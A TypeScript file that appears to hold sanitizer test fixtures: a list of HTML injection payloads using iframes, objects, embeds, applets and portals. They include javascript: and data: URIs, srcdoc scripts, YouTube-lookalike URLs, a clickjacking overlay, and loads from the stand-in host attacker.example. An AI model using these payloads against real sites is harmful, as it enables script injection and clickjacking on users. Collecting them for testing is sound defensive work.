import type { Attack } from './attack';

/** Documents and programs inside the page. */
export const frames: readonly Attack[] = [
  ['a frame of script', '<iframe src="javascript:parent.alert(1)"></iframe>', 'OWASP'],
  [
    'a frame of script, in references',
    '<iframe src="java&#115;cript:parent.alert(1)"></iframe>',
    'OWASP',
  ],
  [
    'a frame of data',
    '<iframe src="data:text/html,<script>parent.postMessage(1,\'*\')</script>"></iframe>',
    'OWASP',
  ],
  ['a frame of another site', '<iframe src="https://attacker.example/"></iframe>', 'OWASP'],
  ['a frame of another site, not closed', '<iframe src=https://attacker.example/x.html <', 'OWASP'],
  [
    'a frame with its document',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    'html5sec',
  ],
  [
    'a frame with its document, in references',
    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    'html5sec',
  ],
  [
    'a frame with its document and a film',
    '<iframe src="https://www.youtube.com/embed/abcdefghijk" srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>',
    'ours',
  ],
  [
    'a frame that says it is a film',
    '<iframe src="https://www.youtube.com.attacker.example/embed/abcdefghijk"></iframe>',
    'ours',
  ],
  [
    'a film with credentials',
    '<iframe src="https://www.youtube.com@attacker.example/embed/abcdefghijk"></iframe>',
    'ours',
  ],
  [
    'a film of script',
    '<iframe src="javascript:parent.alert(1)//www.youtube.com/embed/abcdefghijk"></iframe>',
    'ours',
  ],
  [
    'a film with a script in its name',
    '<iframe src="https://www.youtube.com/embed/%22onmouseover=alert(1)%20"></iframe>',
    'ours',
  ],
  [
    'a frame that takes the page along',
    '<iframe src="https://attacker.example/" sandbox="allow-top-navigation allow-scripts"></iframe>',
    'html5sec',
  ],
  [
    'a frame over the page',
    '<iframe src="https://attacker.example/" style="position:fixed;inset:0;width:100%;height:100%;border:0"></iframe>',
    'Zalewski',
  ],
  [
    'a fenced frame',
    '<fencedframe src="https://attacker.example/"></fencedframe><iframe src="https://attacker.example/"></iframe>',
    'PortSwigger',
  ],
  ['an object of script', '<object data="javascript:alert(1)"></object>', 'OWASP'],
  [
    'an object of data',
    '<object data="data:text/html,<script>parent.postMessage(1,\'*\')</script>"></object>',
    'html5sec',
  ],
  [
    'an object of another site',
    '<object type="text/html" data="https://attacker.example/x"></object>',
    'OWASP',
  ],
  [
    'an object with a parameter',
    '<object><param name=src value="javascript:alert(1)"><param name=url value="https://attacker.example/"></object>',
    'html5sec',
  ],
  [
    'an object of Windows',
    '<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>',
    'OWASP',
  ],
  ['an object with a substitute', '<object><img src=x onerror=alert(1)></object>', 'HTML'],
  ['an embed of script', '<embed src="javascript:alert(1)">', 'html5sec'],
  [
    'an embed of a drawing',
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    'OWASP',
  ],
  [
    'an embed of another site',
    '<embed src="https://attacker.example/x.swf" allowscriptaccess="always">',
    'OWASP',
  ],
  [
    'an embed with code',
    '<embed code="https://attacker.example/x" type="text/html" src="https://attacker.example/x">',
    'html5sec',
  ],
  [
    'an applet',
    '<applet code="javascript:alert(1)" archive="https://attacker.example/x.jar"><img src=x onerror=alert(1)></applet>',
    'html5sec',
  ],
  [
    'a portal',
    '<portal src="https://attacker.example/"></portal><iframe src="https://attacker.example/"></iframe>',
    'PortSwigger',
  ],
  [
    'a layer of old',
    '<layer src="https://attacker.example/x.html" onclick=alert(1)>x</layer>',
    'OWASP',
  ],
];
